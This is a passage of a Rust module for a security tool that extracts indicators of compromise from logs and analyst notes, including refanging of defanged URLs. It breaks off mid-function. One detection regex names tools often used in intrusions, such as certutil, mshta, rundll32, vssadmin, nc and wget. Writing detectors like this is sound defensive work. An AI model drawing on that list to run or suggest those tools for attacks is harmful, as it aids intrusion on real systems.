//! Observable extraction: IPv4/IPv6 addresses, domains, URLs, e-mail addresses, MD5/SHA-1/SHA-256
//! hashes, file paths, user names, host names, command lines, CVE ids and registry keys, each with
//! the byte span where it was written.
//!
//! Why it is built this way:
//! - **Defanged text is understood.** Analysts write `hxxps://evil[.]com` so nobody clicks it; the
//!   text is first refanged into a copy with a byte map back to the original, so matches are found
//!   on the clean form but `raw` and `span` describe what was written.
//! - **Precision over recall for domains.** A word with a dot is a domain only when its last label
//!   is a known top-level domain that is not a common file extension (`report.pdf`, `setup.sh`,
//!   `1.2.3` are not domains); defanged names (`evil[.]xyz`) and URL hosts are always domains.
//! - **Hashes are whole hex runs** of exactly 32, 40 or 64 digits, so a longer hex blob never
//!   yields a hash from its middle.
//! - **Fast** (the intake goal is 50 MB/s of logs on one core, and most log lines hold several
//!   observables). Texts are scanned in batches; one pass over a batch records where its `.`, `:`
//!   and `/` are, and the scanners that start from those bytes (URLs, addresses, domains, paths)
//!   are hand-written and walk these offsets, each checked against the pattern it follows by unit
//!   tests. The keyword patterns (users, hosts, command lines) run case-sensitive on a lower-cased
//!   copy, where their literal prefilters need no case variants. Regexes are compiled once
//!   ([`LazyLock`]) with ASCII word boundaries so the engine keeps its DFA. Deduplication keys a
//!   compact table by a hash, with short values inline, so a repeated value rarely touches its
//!   observable.
//!
//! [`extract`] works on one text; [`ObservableSet`] deduplicates across a whole incident by
//! `(kind, value)` while counting and keeping positions.

use super::{Observable, ObservableKind, Occurrence};
use regex::Regex;
use std::collections::HashMap;
use std::net::{Ipv4Addr, Ipv6Addr};
use std::sync::LazyLock;

/// One match in one text: `start..end` are byte offsets of the raw form in that text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Found {
    pub kind: ObservableKind,
    /// Normalized (see [`Observable::value`]).
    pub value: String,
    pub start: usize,
    pub end: usize,
}

fn re(pattern: &str) -> Regex {
    // The patterns are constants of this file: a failure is a defect caught by the unit tests.
    Regex::new(pattern).unwrap_or_else(|e| panic!("observable pattern does not compile: {e}"))
}

static DEFANG: LazyLock<Regex> =
    LazyLock::new(|| re(r"(?i)\[(?:\.|dot|:|://|@|at)\]|\((?:\.|dot)\)|\{\.\}|hxxp|hxtp|h\[tt\]p|fxp://"));

static URL: LazyLock<Regex> =
    LazyLock::new(|| re(r#"(?i)(?-u:\b)(?:https?|ftps?|sftp|wss?|smb|file|tcp|udp)://[^\s"'<>`{}|\\^\[\]]+"#));

static EMAIL: LazyLock<Regex> = LazyLock::new(|| {
    re(r"(?i)(?-u:\b)[a-z0-9][a-z0-9._%+-]{0,63}@(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z]{2,24}(?-u:\b)")
});

static IPV6: LazyLock<Regex> =
    LazyLock::new(|| re(r"(?i)(?:[0-9a-f]{0,4}:){2,7}(?:[0-9]{1,3}(?:\.[0-9]{1,3}){3}|[0-9a-f]{1,4})?"));

static CVE: LazyLock<Regex> = LazyLock::new(|| re(r"(?i)(?-u:\b)CVE-[0-9]{4}-[0-9]{4,7}(?-u:\b)"));

static REGISTRY: LazyLock<Regex> = LazyLock::new(|| {
    re(concat!(
        r"(?i)(?-u:\b)(?:HKEY_LOCAL_MACHINE|HKEY_CURRENT_USER|HKEY_CLASSES_ROOT|HKEY_USERS|HKEY_CURRENT_CONFIG",
        r"|HKLM|HKCU|HKCR|HKU|HKCC)(?-u:\b):?",
        r#"(?:\\(?:(?:[^\\"\r\n\t <>|]+|[^\\"\r\n\t <>|.]+(?: [^\\"\r\n\t <>|.]+){1,3})\\)*"#,
        r#"(?:[^\\"\r\n\t <>|,;']+)?)?"#
    ))
});

static WINDOWS_PATH: LazyLock<Regex> = LazyLock::new(|| {
    re(concat!(
        r"(?i)(?:(?-u:\b)[a-z]:|%[a-z_]+%|\\\\[a-z0-9._$-]+)\\",
        r#"(?:(?:[^\\/:*?"<>|\r\n\t ]+|[^\\/:*?"<>|\r\n\t .]+(?: [^\\/:*?"<>|\r\n\t .]+){1,3})\\)*"#,
        r#"(?:[^\\/:*?"<>|\r\n\t ,;']+)?"#
    ))
});

/// The pattern [`next_unix_path`] follows by hand, kept to test that both find the same.
#[cfg(test)]
static UNIX_PATH: LazyLock<Regex> = LazyLock::new(|| re(r"/[A-Za-z0-9._+@%~-]+(?:/[A-Za-z0-9._+@%~-]*)+"));

/// A Windows executable named in text (`winupd.exe`, `C:\\Temp\\svc_upd.exe`): the process an
/// analyst stops. The name must start with a letter, digit or underscore.
/// A process id without leading zeros (`007` is `7`, `0` stays `0`).
fn canonical_pid(digits: &str) -> String {
    let trimmed = digits.trim_start_matches('0');
    if trimmed.is_empty() {
        "0".to_owned()
    } else {
        trimmed.to_owned()
    }
}

/// A process id after the words that introduce one; the number is group 1.
static PID: LazyLock<Regex> =
    LazyLock::new(|| re(r"(?i)(?-u:\b)(?:pid|process[ _]?id)(?-u:\b)\s*(?:[:=#]\s*)?([0-9]{1,7})(?-u:\b)"));

static EXECUTABLE: LazyLock<Regex> = LazyLock::new(|| re(r"(?i)(?-u:\b)[a-z0-9_][a-z0-9_.-]{0,63}\.exe(?-u:\b)"));

static DOMAIN_USER: LazyLock<Regex> =
    LazyLock::new(|| re(r"(?-u:\b)(?:NT AUTHORITY|[A-Z][A-Z0-9-]{1,14})\\[A-Za-z][A-Za-z0-9._$-]{0,63}"));

// The four patterns below are written in lower case and compiled twice: case-insensitive for any
// text, and case-sensitive for the text with its ASCII letters lower-cased. On such a text both find
// exactly the same spans, and the case-sensitive one runs several times faster: its literal
// prefilter needs no case variants. (`(?i)` also folds `ſ` to `s` and the Kelvin sign to `k`, the
// only non-ASCII characters that fold to ASCII letters; a text holding one of them takes the
// case-insensitive patterns, see `Scan::lower`.)

/// The user-name capture is the last part of every match, and no prefix ends with a character of
/// its tail class, so the name is the longest suffix of the match in [`user_name_byte`].
const USER_PATTERN: &str = concat!(
    r"(?:(?-u:\b)(?:failed|accepted)\s+\S+\s+for\s+(?:invalid\s+user\s+|illegal\s+user\s+)?",
    r"|(?-u:\b)(?:for|by)\s+(?:invalid\s+|illegal\s+)?user\s+",
    r"|(?-u:\b)(?:invalid|illegal)\s+user\s+",
    r"|(?-u:\b)session\s+(?:opened|closed)\s+for\s+user\s+",
    r"|(?-u:\b)sudo:\s+",
    r#"|(?-u:\b)(?:user(?:_?name)?|account(?:_?name)?)\s*[=:]\s*"?"#,
    r"|(?-u:\b)(?:login|logon|uid|acct|suser|duser|srcuser|dstuser)=",
    r")([A-Za-z0-9_][A-Za-z0-9._$@-]{0,63})"
);

/// As for users, the host name is the longest suffix of the match in [`host_name_byte`].
const HOST_PATTERN: &str = r#"(?-u:\b)(?:host(?:_?name)?|computer(?:_?name)?|workstation|device)(\s*[=:]\s*"?|\s+)([A-Za-z0-9][A-Za-z0-9._-]{0,252})"#;

const COMMAND_KEY_PATTERN: &str = r"(?-u:\b)(?:command[_ ]?line|cmd_?line|command|cmd)\s*[=:]\s*([^\r\n]+)";

const COMMAND_TOOL_PATTERN: &str = concat!(
    r"(?-u:\b)(?:powershell|pwsh|cmd|rundll32|regsvr32|mshta|certutil|wmic|vssadmin|bitsadmin|schtasks",
    r"|cscript|wscript|bash|sh|python[0-9.]*|perl|curl|wget|nc|ncat)(?:\.exe)?[ \t]+[-/][^\r\n]*"
);

static USER: LazyLock<Regex> = LazyLock::new(|| re(&format!("(?i){USER_PATTERN}")));
static USER_LC: LazyLock<Regex> = LazyLock::new(|| re(USER_PATTERN));
static HOST: LazyLock<Regex> = LazyLock::new(|| re(&format!("(?i){HOST_PATTERN}")));
static HOST_LC: LazyLock<Regex> = LazyLock::new(|| re(HOST_PATTERN));
static COMMAND_KEY: LazyLock<Regex> = LazyLock::new(|| re(&format!("(?i){COMMAND_KEY_PATTERN}")));
static COMMAND_KEY_LC: LazyLock<Regex> = LazyLock::new(|| re(COMMAND_KEY_PATTERN));
static COMMAND_TOOL: LazyLock<Regex> = LazyLock::new(|| re(&format!("(?i){COMMAND_TOOL_PATTERN}")));
static COMMAND_TOOL_LC: LazyLock<Regex> = LazyLock::new(|| re(COMMAND_TOOL_PATTERN));

/// The tail class of a user name in [`USER_PATTERN`].
fn user_name_byte(c: u8) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'$' | b'@' | b'-')
}

/// The tail class of a host name in [`HOST_PATTERN`].
fn host_name_byte(c: u8) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'-')
}

/// Where the name captured at the end of a match of `span` starts: after the last byte of the
/// match outside the name's class.
fn name_start(text: &[u8], span: (usize, usize), in_name: fn(u8) -> bool) -> usize {
    let (s, e) = span;
    text[s..e].iter().rposition(|&c| !in_name(c)).map_or(s, |i| s + i + 1)
}

/// Generic top-level domains accepted after a dot; two-letter country codes are accepted unless
/// they are common file extensions ([`EXTENSION_LIKE_CC`]).
const TLDS: &[&str] = &[
    "com",
    "net",
    "org",
    "edu",
    "gov",
    "mil",
    "int",
    "info",
    "biz",
    "xyz",
    "top",
    "online",
    "site",
    "club",
    "shop",
    "store",
    "app",
    "dev",
    "cloud",
    "live",
    "pro",
    "tech",
    "space",
    "website",
    "icu",
    "buzz",
    "work",
    "link",
    "click",
    "loan",
    "win",
    "bid",
    "men",
    "date",
    "stream",
    "download",
    "racing",
    "review",
    "trade",
    "party",
    "science",
    "cricket",
    "accountant",
    "faith",
    "gdn",
    "kim",
    "country",
    "cam",
    "monster",
    "rest",
    "fun",
    "host",
    "press",
    "ltd",
    "group",
    "company",
    "email",
    "services",
    "support",
    "digital",
    "network",
    "systems",
    "solutions",
    "tools",
    "today",
    "world",
    "news",
    "blog",
    "page",
    "mobi",
    "asia",
    "tel",
    "travel",
    "jobs",
    "cat",
    "coop",
    "aero",
    "museum",
    "onion",
    "local",
    "localdomain",
    "internal",
    "corp",
    "lan",
    "home",
    "arpa",
    "bank",
    "security",
    "microsoft",
    "google",
];

/// Two-letter labels that are far more often file extensions than country codes.
const EXTENSION_LIKE_CC: &[&str] =
    &["sh", "py", "rs", "ps", "md", "so", "pm", "js", "ts", "cs", "hs", "vb", "db", "gz", "xz", "go", "rb", "el", "ko"];

/// Values that follow a user keyword but are not user names.
const NOT_USERS: &[&str] = &["-", "unknown", "invalid", "illegal", "none", "null", "n/a", "from", "for", "is", "the"];

/// Registry hives, long and short, to tell `HKLM\...` from `DOMAIN\user`.
const HIVES: &[(&str, &str)] = &[
    ("HKEY_LOCAL_MACHINE", "HKLM"),
    ("HKEY_CURRENT_USER", "HKCU"),
    ("HKEY_CLASSES_ROOT", "HKCR"),
    ("HKEY_USERS", "HKU"),
    ("HKEY_CURRENT_CONFIG", "HKCC"),
    ("HKLM", "HKLM"),
    ("HKCU", "HKCU"),
    ("HKCR", "HKCR"),
    ("HKU", "HKU"),
    ("HKCC", "HKCC"),
];

/// Extracts every observable of `text`, in position order.
pub fn extract(text: &str) -> Vec<Found> {
    let mut hits = Vec::new();
    hits_of(text, &mut hits, &mut ScanBuffers::default());
    hits.into_iter()
        .map(|h| Found {
            kind: h.kind,
            value: h.value.unwrap_or_else(|| text.get(h.start..h.end).unwrap_or_default().to_owned()),
            start: h.start,
            end: h.end,
        })
        .collect()
}

/// A match before it becomes a [`Found`]: `value` is `None` when the normalized value is the raw
/// text itself (the common case, which then costs no allocation).
#[derive(Debug, PartialEq)]
struct Hit {
    kind: ObservableKind,
    value: Option<String>,
    start: usize,
    end: usize,
}

impl Hit {
    fn new(kind: ObservableKind, value: Option<String>, start: usize, end: usize) -> Self {
        Hit { kind, value, start, end }
    }
}

fn lower(s: &str) -> Option<String> {
    s.bytes().any(|c| c.is_ascii_uppercase()).then(|| s.to_ascii_lowercase())
}

fn upper(s: &str) -> Option<String> {
    s.bytes().any(|c| c.is_ascii_lowercase()).then(|| s.to_ascii_uppercase())
}

/// Every hit of `text` (offsets into `text`), sorted by position. `buffers` are kept by the caller
/// so a batch does not allocate them again.
fn hits_of(text: &str, out: &mut Vec<Hit>, buffers: &mut ScanBuffers) {
    out.clear();
    if text.is_empty() {
        return;
    }
    match refang(text) {
        None => Scan::new(text, None, buffers).run(out),
        Some((clean, map)) => {
            Scan::new(&clean, Some(&map), buffers).run(out);
            // Values are taken from the clean text, offsets mapped back to the original.
            let at = |i: usize| map.get(i).copied().unwrap_or(text.len());
            for h in out.iter_mut() {
                let (s, e) = (at(h.start), at(h.end));
                if h.value.is_none() {
                    let value = clean.get(h.start..h.end).unwrap_or_default();
                    // A batch is refanged whole: most of its hits were not defanged and need no copy.
                    if text.get(s..e) != Some(value) {
                        h.value = Some(value.to_owned());
                    }
                }
                h.start = s;
                h.end = e;
            }
        }
    }
    out.sort_by_key(|h| h.start);
}

/// The text with defanging undone, and for every byte of it (plus one past the end) the offset of
/// the original byte it came from. `None` when there is nothing to undo (the common case, no copy).
fn refang(text: &str) -> Option<(String, Vec<usize>)> {
    let mut matches = DEFANG.find_iter(text).peekable();
    matches.peek()?;
    let mut clean = String::with_capacity(text.len());
    let mut map = Vec::with_capacity(text.len() + 1);
    let mut last = 0;
    for m in matches {
        clean.push_str(&text[last..m.start()]);
        map.extend(last..m.start());
        let lower = m.as_str().to_ascii_lowercase();
        let replacement = match lower.as_str() {
            "[:]" => ":",
            "[://]" => "://",
            "[@]" | "[at]" => "@",
            "hxxp" | "hxtp" | "h[tt]p" => "http",
            "fxp://" => "ftp://",
            _ => ".",
        };
        clean.push_str(replacement);
        map.extend(std::iter::repeat_n(m.start(), replacement.len()));
        last = m.end();
    }
    clean.push_str(&text[last..]);
    map.extend(last..text.len());
    map.push(text.len());
    Some((clean, map))
}

/// What a scan learns of its text in one pass, and the lower-cased copy; kept between batches.
#[derive(Debug, Default)]
struct ScanBuffers {
    lower: String,
    dots: Vec<usize>,
    colons: Vec<usize>,
    slashes: Vec<usize>,
}

/// Byte classes of the first pass over a text: the bytes whose offsets are recorded, and the
/// bytes whose mere presence decides whether a scanner runs.
const POSITION: u8 = 1;
const AT: u8 = 2;
const DASH: u8 = 4;
const BACKSLASH: u8 = 8;
/// The first byte of `ſ` (C5 BF) and of the Kelvin sign (E2 84 AA).
const FOLD_LEAD: u8 = 16;

const BYTE_CLASS: [u8; 256] = {
    let mut classes = [0u8; 256];
    classes[b'.' as usize] = POSITION;
    classes[b':' as usize] = POSITION;
    classes[b'/' as usize] = POSITION;
    classes[b'@' as usize] = AT;
    classes[b'-' as usize] = DASH;
    classes[b'\\' as usize] = BACKSLASH;
    classes[0xc5] = FOLD_LEAD;
    classes[0xe2] = FOLD_LEAD;
    classes
};

/// One scan of one (refanged) text.
struct Scan<'a> {
    t: &'a str,
    b: &'a [u8],
    /// Offsets of every `.`, `:` and `/` of `t`, in order: the scanners that start from those
    /// bytes walk these lists instead of searching the text again and again.
    dots: &'a [usize],
    colons: &'a [usize],
    slashes: &'a [usize],
    /// The [`BYTE_CLASS`] bits of the bytes of `t`.
    seen: u8,
    /// `t` with its ASCII letters lower-cased, for the case-sensitive twins of the case-insensitive
    /// patterns (`USER_LC`, ...) and the hand-written URL scan. `None` when `t` holds `ſ` or the
    /// Kelvin sign, which `(?i)` folds to ASCII letters: then the case-insensitive patterns run.
    lower: Option<&'a str>,
    /// The refang map, to know whether a span was defanged.
    map: Option<&'a [usize]>,
    /// Spans owned by URLs and e-mails (no domain, IP or path is taken from inside them again).
    claimed: Vec<(usize, usize)>,
    /// Spans owned by Windows paths and registry keys (no `DOMAIN\user` inside them).
    windows: Vec<(usize, usize)>,
    /// Spans owned by command lines found after a `CommandLine=` key.
    commands: Vec<(usize, usize)>,
}

/// True when `s..e` overlaps one of `spans` (sorted by start, not overlapping each other: a batch
/// holds thousands of URLs, so this must not be a linear search).
fn overlaps(spans: &[(usize, usize)], s: usize, e: usize) -> bool {
    let i = spans.partition_point(|&(_, b)| b <= s);
    spans.get(i).is_some_and(|&(a, _)| a < e)
}

/// [`overlaps`] for queries made in increasing `s`: `cursor` remembers how far the spans ending at
/// or before `s` go, so a batch is walked once instead of searched for every token.
fn overlaps_in_order(spans: &[(usize, usize)], cursor: &mut usize, s: usize, e: usize) -> bool {
    while spans.get(*cursor).is_some_and(|&(_, b)| b <= s) {
        *cursor += 1;
    }
    spans.get(*cursor).is_some_and(|&(a, _)| a < e)
}

/// Records a span, keeping `spans` sorted by start.
fn claim(spans: &mut Vec<(usize, usize)>, s: usize, e: usize) {
    // Spans mostly come in order (URLs, then e-mails, are found left to right).
    if spans.last().is_none_or(|&(a, _)| a < s) {
        spans.push((s, e));
        return;
    }
    let i = spans.partition_point(|&(a, _)| a < s);
    spans.insert(i, (s, e));
}

impl<'a> Scan<'a> {
    fn new(t: &'a str, map: Option<&'a [usize]>, buffers: &'a mut ScanBuffers) -> Self {
        let ScanBuffers { lower, dots, colons, slashes } = buffers;
        dots.clear();
        colons.clear();
        slashes.clear();
        // Two steps per chunk, neither branching on the bytes (a branch per `.`, `:` or `/` is
        // mispredicted too often): note the offset of every marked byte, then file each one in the
        // list of its byte.
        const CHUNK: usize = 4096;
        let mut marks = [0u16; CHUNK];
        let mut seen = 0;
        let lists = [dots, colons, slashes];
        for (n, chunk) in t.as_bytes().chunks(CHUNK).enumerate() {
            let mut count = 0;
            for (j, &c) in chunk.iter().enumerate() {
                let class = BYTE_CLASS[usize::from(c)];
                seen |= class;
                // `count` <= `j` < CHUNK.
                marks[count] = j as u16;
                count += usize::from(class & POSITION);
            }
            for &j in &marks[..count] {
                let list = match chunk[usize::from(j)] {
                    b'.' => 0,
                    b':' => 1,
                    _ => 2,
                };
                lists[list].push(n * CHUNK + usize::from(j));
            }
        }
        let [dots, colons, slashes] = lists;
        let lower = if seen & FOLD_LEAD != 0 && (t.contains('\u{17f}') || t.contains('\u{212a}')) {
            None
        } else {
            lower.clear();
            lower.push_str(t);
            lower.make_ascii_lowercase();
            Some(lower.as_str())
        };
        Scan {
            t,
            b: t.as_bytes(),
            dots,
            colons,
            slashes,
            seen,
            lower,
            map,
            claimed: Vec::new(),
            windows: Vec::new(),
            commands: Vec::new(),
        }
    }

    fn has(&self, class: u8) -> bool {
        self.seen & class != 0
    }

    /// True when a `://` follows the colon at `k`.
    fn scheme_separator(&self, k: usize) -> bool {
        self.b.get(k + 1..k + 3) == Some(b"//")
    }

    fn before(&self, i: usize) -> Option<u8> {
        i.checked_sub(1).and_then(|j| self.b.get(j).copied())
    }

    /// True when the span was written defanged (its original is longer than its clean form).
    fn defanged(&self, s: usize, e: usize) -> bool {
        match self.map {
            Some(map) => match (map.get(s), map.get(e)) {
                (Some(a), Some(b)) => b - a != e - s,
                _ => false,
            },
            None => false,
        }
    }

    fn run(mut self, out: &mut Vec<Hit>) {
        let has_dot = !self.dots.is_empty();
        if self.colons.iter().any(|&k| self.scheme_separator(k)) {
            self.urls(out);
        }
        if self.has(AT) && has_dot {
            self.emails(out);
        }
        if has_dot {
            self.dotted(out);
        }
        self.ipv6(out);
        self.hashes(out);
        if self.has(DASH) {
            for m in CVE.find_iter(self.t) {
                out.push(Hit::new(ObservableKind::Cve, upper(m.as_str()), m.start(), m.end()));
            }
        }
        if self.has(BACKSLASH) {
            self.registry(out);
            self.windows_paths(out);
            self.domain_users(out);
        }
        if !self.slashes.is_empty() {
            self.unix_paths(out);
        }
        if has_dot {
            self.executables(out);
        }
        self.users(out);
        self.hosts(out);
        self.command_lines(out);
        self.pids(out);
    }

    /// Process ids: `PID 6412`, `pid=6412`, `ProcessId: 6412`, `process id 6412`.
    fn pids(&mut self, out: &mut Vec<Hit>) {
        for c in PID.captures_iter(self.t) {
            let (Some(all), Some(m)) = (c.get(0), c.get(1)) else { continue };
            // A parent's id names the process that started the adversary's, often a shell or
            // a service: not one to kill.
            let before = self.t[..all.start()].trim_end().as_bytes();
            if before.len() >= 6 && before[before.len() - 6..].eq_ignore_ascii_case(b"parent") {
                continue;
            }
            out.push(Hit::new(ObservableKind::Pid, Some(canonical_pid(m.as_str())), m.start(), m.end()));
        }
    }

    fn urls(&mut self, out: &mut Vec<Hit>) {
        if self.lower.is_none() {
            let spans: Vec<(usize, usize)> = URL.find_iter(self.t).map(|m| (m.start(), m.end())).collect();
            for (s, e) in spans {
                self.url(s, e, out);
            }
            return;
        }
        let (t, b, colons) = (self.t, self.b, self.colons);
        let mut last_end = 0;
        for &k in colons {
            if k < last_end || !self.scheme_separator(k) {
                continue;
            }
            let Some(s) = url_start(b, k, last_end) else { continue };
            let e = url_body_end(t, k + 3);
            if e > k + 3 {
                self.url(s, e, out);
                last_end = e;
            }
        }
    }

    /// One match of [`URL`] at `s..e`: trimmed, normalized, and its host taken too.
    fn url(&mut self, s: usize, e: usize, out: &mut Vec<Hit>) {
        let mut url = &self.t[s..e];
        // Sentence punctuation and closing brackets after a URL are not part of it.
        while let Some(last) = url.chars().last() {
            let unbalanced_paren = last == ')' && !url.contains('(');
            if matches!(last, '.' | ',' | ';' | ':' | '!' | '?' | '\'' | '"') || unbalanced_paren {
                url = &url[..url.len() - 1];
            } else {
                break;
            }
        }
        let Some(scheme_end) = url.find("://") else { return };
        let after = &url[scheme_end + 3..];
        let authority_len = after.find(['/', '?', '#']).unwrap_or(after.len());
        if authority_len == 0 {
            return;
        }
        let authority = &after[..authority_len];
        let e = s + url.len();
        // Scheme and host are case-insensitive, the rest is not.
        let head = &url[..scheme_end + 3 + authority_len];
        let value = head.bytes().any(|c| c.is_ascii_uppercase()).then(|| {
            let mut value = head.to_ascii_lowercase();
            value.push_str(&after[authority_len..]);
            value
        });
        out.push(Hit::new(ObservableKind::Url, value, s, e));
        claim(&mut self.claimed, s, e);
        // The host of the URL is an observable of its own.
        let host_start = authority.rfind('@').map_or(0, |i| i + 1);
        let host_and_port = &authority[host_start..];
        let host = match host_and_port.rfind(':') {
            Some(i) if host_and_port[i + 1..].bytes().all(|c| c.is_ascii_digit()) => &host_and_port[..i],
            _ => host_and_port,
        };
        let hs = s + scheme_end + 3 + host_start;
        let he = hs + host.len();
        if host.parse::<Ipv4Addr>().is_ok() {
            out.push(Hit::new(ObservableKind::Ipv4, None, hs, he));
        } else if host.contains('.') && host.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'.' || c == b'-') {
            out.push(Hit::new(ObservableKind::Domain, lower(host), hs, he));
        }
    }

    fn emails(&mut self, out: &mut Vec<Hit>) {
        for m in EMAIL.find_iter(self.t) {
            if overlaps(&self.claimed, m.start(), m.end()) {
                continue;
            }
            out.push(Hit::new(ObservableKind::Email, lower(m.as_str()), m.start(), m.end()));
            claim(&mut self.claimed, m.start(), m.end());
        }
    }

    /// Dotted tokens (`a.b.c`), found by a byte scan around each `.`: four decimal labels are an
    /// IPv4 address, others a domain when the last label is a known top-level domain (or the
    /// token was defanged). One pass serves both kinds, and five labels (`1.2.3.4.5`) are a
    /// version, not an address.
    fn dotted(&mut self, out: &mut Vec<Hit>) {
        let b = self.b;
        let tok = |c: u8| c.is_ascii_alphanumeric() || c == b'-' || c == b'_' || c == b'.';
        let (mut i, mut cursor) = (0, 0);
        for &dot in self.dots {
            if dot < i {
                continue;
            }
            let mut s = dot;
            while s > i && tok(b[s - 1]) {
                s -= 1;
            }
            let mut e = dot + 1;
            while e < b.len() && tok(b[e]) {
                e += 1;
            }
            i = e;
            // Dots and hyphens at the edges are punctuation, not part of the name.
            while s < e && matches!(b[s], b'.' | b'-' | b'_') {
                s += 1;
            }
            while e > s && matches!(b[e - 1], b'.' | b'-' | b'_') {
                e -= 1;
            }
            if e <= s || overlaps_in_order(&self.claimed, &mut cursor, s, e) {
                continue;
            }
            let token = &self.t[s..e];
            let labels = token.bytes().filter(|&c| c == b'.').count() + 1;
            if labels == 4 && token.bytes().all(|c| c.is_ascii_digit() || c == b'.') {
                if token.parse::<Ipv4Addr>().is_ok() {
                    out.push(Hit::new(ObservableKind::Ipv4, None, s, e));
                }
                continue;
            }
            if labels < 2 || self.before(s) == Some(b'@') || b.get(e) == Some(&b'@') {
                continue;
            }
            let valid_label =
                |l: &str| !l.is_empty() && l.len() <= 63 && !l.starts_with(['-', '_']) && !l.ends_with(['-', '_']);
            if !token.split('.').all(valid_label) {
                continue;
            }
            let tld = token.rsplit('.').next().unwrap_or_default();
            if !(2..=24).contains(&tld.len()) || !tld.bytes().all(|c| c.is_ascii_alphabetic()) {
                continue;
            }
            let is = |list: &[&str]| list.iter().any(|x| x.eq_ignore_ascii_case(tld));
            let known = is(TLDS) || (tld.len() == 2 && !is(EXTENSION_LIKE_CC));
            if known || self.defanged(s, e) {
                out.push(Hit::new(ObservableKind::Domain, lower(token), s, e));
            }
        }
    }

    /// [`IPV6`] runs only on runs of the bytes it can match (hex digits, `:` and `.`) that could
    /// hold an address: with `::`, or at least six colons (`1:2:3:4:5:6:1.2.3.4`). Its matches
    /// never leave such a run and it has no look-around, so it finds there exactly what it finds
    /// in the whole text; other runs (times like `04:11:09`) cannot parse as an address anyway.
    fn ipv6(&mut self, out: &mut Vec<Hit>) {
        let (t, b) = (self.t, self.b);
        let run_byte = |c: u8| c.is_ascii_hexdigit() || c == b':' || c == b'.';
        let mut from = 0;
        for &colon in self.colons {
            if colon < from {
                continue;
            }
            let mut s = colon;
            while s > from && run_byte(b[s - 1]) {
                s -= 1;
            }
            let mut e = colon + 1;
            while e < b.len() && run_byte(b[e]) {
                e += 1;
            }
            from = e;
            let run = &t[s..e];
            if !run.contains("::") && run.bytes().filter(|&c| c == b':').count() < 6 {
                continue;
            }
            for m in IPV6.find_iter(run) {
                self.ipv6_at(s + m.start(), s + m.end(), out);
            }
        }
    }

    fn ipv6_at(&mut self, s: usize, e: usize, out: &mut Vec<Hit>) {
        let mut e = e;
        let is_word = |c: u8| c.is_ascii_alphanumeric() || c == b'_' || c == b':' || c == b'.';
        let after = |i: usize| self.b.get(i).copied();
        let word_after = match after(e) {
            Some(b'.') => after(e + 1).is_some_and(|c| c.is_ascii_alphanumeric()),
            Some(c) => is_word(c),
            None => false,
        };
        if self.before(s).is_some_and(is_word) || word_after {
            return;
        }
        let mut candidate = &self.t[s..e];
        // A colon ending a sentence (`from fe80::1:`) is not part of the address.
        if candidate.ends_with(':') && !candidate.ends_with("::") {
            candidate = &candidate[..candidate.len() - 1];
            e -= 1;
        }
        if !candidate.bytes().any(|c| c.is_ascii_hexdigit()) {
            return;
        }
        if let Ok(ip) = candidate.parse::<Ipv6Addr>() {
            let value = ip.to_string();
            let value = (value != candidate).then_some(value);
            out.push(Hit::new(ObservableKind::Ipv6, value, s, e));
        }
    }

    /// Whole words (runs of ASCII letters, digits and `_`) of 32, 40 or 64 hex digits with at least
    /// one decimal digit. Such a run covers every 32nd byte it spans, so the scan looks at every
    /// 32nd byte and steps over the text whenever that byte is no hex digit.
    fn hashes(&mut self, out: &mut Vec<Hit>) {
        let b = self.b;
        let hex = |c: u8| c.is_ascii_hexdigit();
        let word = |c: u8| c.is_ascii_alphanumeric() || c == b'_';
        // `i` is 0 or follows a byte that is no hex digit.
        let mut i = 0;
        while i + 32 <= b.len() {
            if !hex(b[i + 31]) {
                i += 32;
                continue;
            }
            let mut s = i + 31;
            while s > i && hex(b[s - 1]) {
                s -= 1;
            }
            let mut e = i + 32;
            while e < b.len() && hex(b[e]) {
                e += 1;
            }
            i = e + 1;
            let kind = match e - s {
                32 => ObservableKind::Md5,
                40 => ObservableKind::Sha1,
                64 => ObservableKind::Sha256,
                _ => continue,
            };
            let whole_word = !self.before(s).is_some_and(word) && !b.get(e).is_some_and(|&c| word(c));
            if whole_word && b[s..e].iter().any(u8::is_ascii_digit) {
                out.push(Hit::new(kind, lower(&self.t[s..e]), s, e));
            }
        }
    }

    fn registry(&mut self, out: &mut Vec<Hit>) {
        for m in REGISTRY.find_iter(self.t) {
            let raw = m.as_str().trim_end_matches(['\\', '.']);
            let Some(sep) = raw.find(['\\', ':']) else { continue };
            let hive = &raw[..sep];
            let rest = raw[sep..].trim_start_matches(':');
            if rest.len() <= 1 {
                continue;
            }
            let short = HIVES.iter().find(|(long, _)| long.eq_ignore_ascii_case(hive)).map_or(hive, |(_, s)| s);
            let value = format!("{short}{}", rest.to_ascii_lowercase());
            let (s, e) = (m.start(), m.start() + raw.len());
            let value = (value != raw).then_some(value);
            out.push(Hit::new(ObservableKind::RegistryKey, value, s, e));
            claim(&mut self.windows, s, e);
        }
    }

    fn windows_paths(&mut self, out: &mut Vec<Hit>) {
        for m in WINDOWS_PATH.find_iter(self.t) {
            let s = m.start();
            // A quoted path runs to its closing quote, spaces in the file name included.
            let quoted = match self.before(s) {
                Some(q @ (b'"' | b'\'')) => self.b[s..]
                    .iter()
                    .position(|&c| c == q || c == b'\n')
                    .filter(|&len| self.b.get(s + len) == Some(&q) && len >= m.len() && len <= 32_767),
                _ => None,
            };
            let raw = match quoted {
                Some(len) => &self.t[s..s + len],
                None => m.as_str().trim_end_matches(['.', ',']),
            };
            let e = s + raw.len();
            if overlaps(&self.windows, s, e) {
                continue;
            }
            out.push(Hit::new(ObservableKind::FilePath, lower(raw), s, e));
            claim(&mut self.windows, s, e);
        }
    }

    /// Executables named in the text become `process` observables: the image name without
    /// `.exe`, lower-cased (what `Stop-Process -Name` takes), also inside a path.
    fn executables(&mut self, out: &mut Vec<Hit>) {
        for m in EXECUTABLE.find_iter(self.t) {
            let name = &m.as_str()[..m.as_str().len() - 4];
            // `notes.exe.txt` and `x.exe-y` are other files, not executables.
            let after = self.b.get(m.end()).copied();
            let continues = match after {
                Some(b'-' | b'_') => true,
                Some(b'.') => self.b.get(m.end() + 1).is_some_and(u8::is_ascii_alphanumeric),
                _ => false,
            };
            if name.is_empty() || continues || matches!(self.before(m.start()), Some(b'.' | b'-')) {
                continue;
            }
